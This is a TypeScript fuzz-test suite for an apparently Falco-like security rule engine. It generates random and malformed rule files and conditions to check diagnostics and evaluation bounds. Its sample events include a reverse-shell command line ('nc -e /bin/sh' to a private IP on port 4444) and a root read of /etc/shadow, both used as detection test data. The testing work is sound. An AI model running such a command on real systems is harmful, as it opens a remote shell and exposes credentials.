/**
 * Fuzzing the rule language: structure-aware rule files (lists, macros, rules, exceptions,
 * overrides, appends; huge and deep ones; cycles; wrong types) and their text mangled byte by
 * byte, and conditions alone. Properties: loading never throws (every problem is a diagnostic
 * with a position), loading and each event's evaluation stay within a bound, and alerts of
 * whatever loaded can be built. See test/helpers/fuzz.ts for FUZZ_RUNS, FUZZ_SEED and the corpus.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import { Engine, compileCondition, compileRuleFiles } from '../src/engine/index.js';
import { FieldKeyTable, FlatEventDecoder, type SyscallEvent } from '../src/event/index.js';
import { ConditionError, DiagnosticBag } from '../src/lang/index.js';
import { readRuleFile } from '../src/rules/index.js';
import { corpus, fuzzParams, withinMs } from './helpers/fuzz.js';

const table = new FieldKeyTable();
const decoder = new FlatEventDecoder(table);
const EVENTS: SyscallEvent[] = [
  {
    'evt.type': 'openat',
    'proc.name': 'cat',
    'fd.name': '/etc/shadow',
    'user.uid': 0,
    'proc.pid': 42,
    'proc.aname[2]': 'runc',
    'evt.arg.flags': 'O_RDONLY',
    'container.id': 'host',
    'evt.time': 1_764_424_800_000_000_000,
  },
  {
    'evt.type': 'connect',
    'proc.name': 'nc',
    'fd.sip': '10.0.0.9',
    'fd.sport': 4444,
    'fd.net': '10.0.0.0/8',
    'k8s.ns.name': 'shop',
    'proc.cmdline': 'nc -e /bin/sh 10.0.0.9 4444',
  },
  { 'evt.type': 'execve', 'proc.name': 'sh', 'proc.pname': 'nginx', 'user.uid': 1000 },
  { 'evt.type': 'mkdir' },
].map((o, i) => decoder.decodeLine(JSON.stringify(o), i + 1));

const FIELDS = [
  'proc.name',
  'fd.name',
  'evt.type',
  'proc.aname[2]',
  'user.uid',
  'proc.pid',
  'fd.sport',
  'fd.sip',
  'evt.arg.flags',
  'container.id',
  'k8s.ns.name',
  'proc.cmdline',
  'proc.pname',
  'fd.nosuch',
  'evt.arg[0]',
  'proc.aname',
];
const OPS = [
  '=',
  '!=',
  '<',
  '<=',
  '>',
  '>=',
  'contains',
  'icontains',
  'startswith',
  'endswith',
  'glob',
  'pmatch',
  'regex',
  'bcontains',
  '==',
];
const MACROS = ['m0', 'm1', 'm2', 'm3'];
const LISTS = ['l0', 'l1', 'l2'];
const RULES = ['r0', 'r1', 'r2', 'Read sensitive file'];

const word = fc.oneof(
  fc.constantFrom(
    'cat',
    '/etc/shadow',
    'nc',
    '0',
    '4444',
    '10.0.0.0/8',
    '/etc/*',
    'O_RDONLY',
    '-1',
    '18446744073709551616',
    '1e400',
    '""',
    "'x'",
    '(',
    ')',
    ',',
    '%',
    '*',
    '\\',
  ),
  fc.stringMatching(/^[a-z0-9/_.*-]{1,10}$/),
  fc.string({ maxLength: 8 }).map((s) => JSON.stringify(s)),
);

/** A condition: checks, lists, macros, boolean structure, and now and then junk. */
const condition: fc.Arbitrary<string> = fc.letrec<{ c: string }>((tie) => ({
  c: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    fc.tuple(fc.constantFrom(...FIELDS), fc.constantFrom(...OPS), word).map(([f, op, v]) => `${f} ${op} ${v}`),
    fc
      .tuple(
        fc.constantFrom(...FIELDS),
        fc.constantFrom('in', 'intersects', 'pmatch'),
        fc.array(fc.oneof(word, fc.constantFrom(...LISTS)), { maxLength: 4 }),
      )
      .map(([f, op, vs]) => `${f} ${op} (${vs.join(', ')})`),
    fc.constantFrom(...FIELDS).map((f) => `${f} exists`),
    fc.constantFrom(...MACROS, 'undefined_macro', 'always_true', 'never_true'),
    tie('c').map((c) => `not ${c}`),
    fc.tuple(tie('c'), fc.constantFrom('and', 'or'), tie('c')).map(([a, op, b]) => `(${a} ${op} ${b})`),
    fc
      .array(fc.oneof(word, fc.constantFrom(...FIELDS, ...OPS, 'and', 'or', 'not', 'in')), { maxLength: 6 })
      .map((a) => a.join(' ')),
  ),
})).c;

const name = (pool: readonly string[]): fc.Arbitrary<string> =>
  fc.oneof({ weight: 5, arbitrary: fc.constantFrom(...pool) }, { weight: 1, arbitrary: fc.string({ maxLength: 12 }) });
const maybe = <T>(a: fc.Arbitrary<T>): fc.Arbitrary<T | undefined> => fc.option(a, { nil: undefined, freq: 2 });
const junk = fc.oneof(
  fc.constant(null),
  fc.integer(),
  fc.string({ maxLength: 6 }),
  fc.array(fc.integer(), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 4 }), fc.integer(), { maxKeys: 2 }),
);

const exception = fc.record(
  {
    name: fc.string({ maxLength: 6 }),
    fields: fc.oneof(fc.array(fc.constantFrom(...FIELDS), { minLength: 1, maxLength: 3 }), fc.constantFrom(...FIELDS)),
    comps: maybe(
      fc.oneof(
        fc.array(fc.constantFrom('=', 'in', 'startswith', 'pmatch', 'bogus'), { maxLength: 3 }),
        fc.constantFrom('=', 'in'),
      ),
    ),
    values: maybe(
      fc.array(fc.oneof(fc.array(fc.oneof(word, fc.array(word, { maxLength: 2 })), { maxLength: 3 }), word), {
        maxLength: 3,
      }),
    ),
  },
  { requiredKeys: ['name'] },
);

const item = fc.oneof(
  fc.record(
    {
      list: name(LISTS),
      items: fc.oneof(fc.array(fc.oneof(word, fc.constantFrom(...LISTS)), { maxLength: 6 }), junk),
      append: maybe(fc.boolean()),
    },
    { requiredKeys: ['list'] },
  ),
  fc.record(
    {
      macro: name(MACROS),
      condition: fc.oneof({ weight: 6, arbitrary: condition }, { weight: 1, arbitrary: junk }),
      append: maybe(fc.boolean()),
    },
    { requiredKeys: ['macro'] },
  ),
  fc.record(
    {
      rule: name(RULES),
      desc: maybe(fc.string({ maxLength: 10 })),
      condition: maybe(condition),
      output: maybe(
        fc.oneof(
          fc.constant('%proc.name read %fd.name (%user.uid) %evt.time %proc.aname[2]'),
          fc.string({ maxLength: 20 }),
          fc.constant('%nosuch.field %'),
        ),
      ),
      priority: maybe(fc.constantFrom('WARNING', 'critical', 'Notice', 'loud', 'EMERGENCY')),
      tags: maybe(fc.oneof(fc.array(fc.string({ maxLength: 5 }), { maxLength: 3 }), junk)),
      enabled: maybe(fc.oneof(fc.boolean(), junk)),
      exceptions: maybe(fc.array(exception, { maxLength: 3 })),
      append: maybe(fc.boolean()),
      override: maybe(
        fc.dictionary(
          fc.constantFrom('condition', 'exceptions', 'output', 'priority', 'enabled', 'bogus'),
          fc.constantFrom('append', 'replace', 'neither'),
          { maxKeys: 3 },
        ),
      ),
      source: maybe(fc.constantFrom('syscall', 'k8s_audit', 'aws_cloudtrail')),
    },
    { requiredKeys: ['rule'] },
  ),
  fc.record({ required_engine_version: fc.oneof(fc.constantFrom('0.26.0', '99.0.0', 'x'), fc.integer()) }),
  fc.record({
    required_plugin_versions: fc.array(
      fc.record({ name: fc.string({ maxLength: 5 }), version: fc.string({ maxLength: 5 }) }),
      { maxLength: 2 },
    ),
  }),
  junk,
);

/** A condition that compiles: string and numeric fields with operators of their type, lists, macros. */
const validCondition = (macros: readonly string[]): fc.Arbitrary<string> =>
  fc.letrec<{ c: string }>((tie) => ({
    c: fc.oneof(
      { depthSize: 'small' },
      fc
        .tuple(
          fc.constantFrom('proc.name', 'fd.name', 'proc.cmdline', 'proc.aname[2]', 'k8s.ns.name'),
          fc.constantFrom('=', '!=', 'contains', 'startswith', 'endswith', 'glob', 'icontains'),
          fc.constantFrom('cat', 'nc', '/etc/shadow', '/etc', 'sh', 'runc', 'shop', '*'),
        )
        .map(([f, op, v]) => `${f} ${op} ${v}`),
      fc
        .tuple(
          fc.constantFrom('user.uid', 'proc.pid', 'fd.sport'),
          fc.constantFrom('=', '!=', '<', '>='),
          fc.constantFrom('0', '42', '4444', '1000'),
        )
        .map(([f, op, v]) => `${f} ${op} ${v}`),
      fc.tuple(fc.constantFrom('proc.name', 'fd.name'), fc.constantFrom(...LISTS)).map(([f, l]) => `${f} in (${l})`),
      fc.constantFrom('proc.name', 'fd.sip', 'user.uid').map((f) => `${f} exists`),
      ...(macros.length ? [fc.constantFrom(...macros)] : []),
      tie('c').map((c) => `not ${c}`),
      fc.tuple(tie('c'), fc.constantFrom('and', 'or'), tie('c')).map(([a, op, b]) => `(${a} ${op} ${b})`),
    ),
  })).c;

/** Files that load: lists, macros over lists, rules over both with exceptions; then random items after. */
const loadable = fc
  .tuple(
    fc.tuple(
      ...LISTS.map((l) =>
        fc
          .array(fc.constantFrom('cat', 'nc', 'sh', '/etc/shadow', 'x'), { minLength: 1, maxLength: 4 })
          .map((items) => ({ list: l, items })),
      ),
    ),
    fc.tuple(...MACROS.map((m) => validCondition([]).map((condition) => ({ macro: m, condition })))),
    fc
      .array(
        fc.tuple(
          validCondition(MACROS),
          fc.option(fc.tuple(fc.constantFrom('proc.name', 'fd.name'), fc.constantFrom('cat', 'nc')), {
            nil: undefined,
          }),
        ),
        { minLength: 1, maxLength: 5 },
      )
      .map((rs) =>
        rs.map(([condition, ex], i) => ({
          rule: `ok${i}`,
          desc: 'd',
          condition: `evt.type in (openat, connect, execve, mkdir) and ${condition}`,
          output: '%proc.name %fd.name %user.uid %evt.time',
          priority: 'WARNING',
          ...(ex ? { exceptions: [{ name: 'e', fields: [ex[0]], comps: ['='], values: [[ex[1]]] }] } : {}),
        })),
      ),
    fc.array(item, { maxLength: 3 }),
  )
  .map(([lists, macros, rules, extra]) => [...lists, ...macros, ...rules, ...extra]);

/** Files of the shapes that once broke things: huge lists, deep macro chains, deep parentheses. */
const extreme = fc.oneof(
  fc.integer({ min: 1, max: 20_000 }).map((n) => [
    { list: 'l0', items: Array.from({ length: n }, (_, i) => `v${i}`) },
    { list: 'l1', items: ['l0', 'l0', 'x'] },
    { rule: 'r0', desc: 'd', condition: 'proc.name in (l1)', output: 'o', priority: 'WARNING' },
  ]),
  fc
    .integer({ min: 1, max: 60 })
    .map((n) => [
      { macro: 'c0', condition: 'proc.name = cat' },
      ...Array.from({ length: n }, (_, i) => ({ macro: `c${i + 1}`, condition: `(c${i} or c${i})` })),
      { rule: 'r0', desc: 'd', condition: `evt.type = openat and c${n}`, output: 'o', priority: 'WARNING' },
    ]),
  fc.integer({ min: 1, max: 400 }).map((n) => [
    {
      rule: 'r0',
      desc: 'd',
      condition: `${'('.repeat(n)}proc.name = cat${')'.repeat(n)}`,
      output: 'o',
      priority: 'WARNING',
    },
  ]),
  fc
    .integer({ min: 2, max: 50 })
    .map((n) => Array.from({ length: n }, (_, i) => ({ macro: `k${i}`, condition: `k${(i + 1) % n}` }))),
);

/** Random edits of the text: the YAML and the conditions inside it broken at random places. */
const mangled = (text: string): fc.Arbitrary<string> =>
  fc.array(fc.tuple(fc.nat(), fc.nat({ max: 8 }), fc.string({ maxLength: 6 })), { maxLength: 4 }).map((edits) => {
    let t = text;
    for (const [at, del, ins] of edits) {
      const i = t.length ? at % t.length : 0;
      t = t.slice(0, i) + ins + t.slice(i + del);
    }
    return t;
  });

/** Loads one rules file; checks every diagnostic is positioned; evaluates what loaded. */
function loadAndRun(bytes: Uint8Array): 'ran' | 'refused' {
  const bag = new DiagnosticBag();
  const load = withinMs(10_000, 'loading the file', () =>
    compileRuleFiles([readRuleFile('fuzz.yaml', bytes, bag)], table, bag),
  );
  for (const d of load.diagnostics.items) {
    expect(d.file).toBe('fuzz.yaml');
    expect(d.line).toBeGreaterThanOrEqual(0);
    expect(d.column).toBeGreaterThanOrEqual(0);
    expect(d.code).toMatch(/^[A-Z_]+$/);
    expect(d.message.length).toBeGreaterThan(0);
  }
  if (load.rules.length === 0) return 'refused';
  const engine = new Engine(load, { ruleMatching: 'all' });
  for (const e of EVENTS) {
    withinMs(250, `evaluating a ${e.type} event`, () => engine.evaluate(e, (r) => void engine.alert(r, e)));
  }
  return 'ran';
}

describe('fuzz: rule files', () => {
  it('the kept corpus loads or is refused with positioned diagnostics', () => {
    const kept = corpus('rules');
    expect(kept.length).toBeGreaterThan(0);
    for (const [, bytes] of kept) loadAndRun(bytes);
  });

  it('structure-aware files (lists, macros, rules, exceptions, overrides, appends, junk)', () => {
    let ran = 0;
    const files = fc.oneof(fc.array(item, { maxLength: 12 }), loadable);
    fc.assert(
      fc.property(files, (items) => void (loadAndRun(Buffer.from(stringify(items))) === 'ran' && ran++)),
      fuzzParams(300),
    );
    // the generator reaches the engine, not only the loader's refusals
    expect(ran).toBeGreaterThan(0);
  });

  it('huge lists, deep macro chains, deep parentheses and cycles', () => {
    fc.assert(
      fc.property(extreme, (items) => void loadAndRun(Buffer.from(stringify(items)))),
      fuzzParams(40),
    );
  });

  it('the same files with their text mangled', () => {
    const arb = fc.array(item, { minLength: 1, maxLength: 8 }).chain((items) => mangled(stringify(items)));
    fc.assert(
      fc.property(arb, (text) => void loadAndRun(Buffer.from(text))),
      fuzzParams(300),
    );
  });

  it('arbitrary bytes (invalid UTF-8, NULs, control characters)', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 400 }), (bytes) => void loadAndRun(bytes)),
      fuzzParams(300),
    );
  });
});

describe('fuzz: conditions', () => {
  /** Compiles, or fails with a positioned ConditionError; evaluates what compiled. */
  const check = (text: string): void => {
    let c;
    try {
      c = compileCondition(text, table);
    } catch (err) {
      expect(err).toBeInstanceOf(ConditionError);
      const e = err as ConditionError;
      expect(e.start).toBeGreaterThanOrEqual(0);
      expect(e.end).toBeLessThanOrEqual(text.length + 1);
      return;
    }
    for (const e of EVENTS) withinMs(250, 'evaluating a condition', () => c.pred(e));
  };

  it('the kept corpus (one condition per line) compiles or fails with a ConditionError', () => {
    const kept = corpus('conditions');
    expect(kept.length).toBeGreaterThan(0);
    for (const [, bytes] of kept) for (const line of bytes.toString('utf8').split('\n').filter(Boolean)) check(line);
  });

  it('compile or fail with a ConditionError carrying offsets; what compiles evaluates within a bound', () => {
    fc.assert(fc.property(fc.oneof(condition, fc.string({ maxLength: 40 })), check), fuzzParams(1000));
  });
});
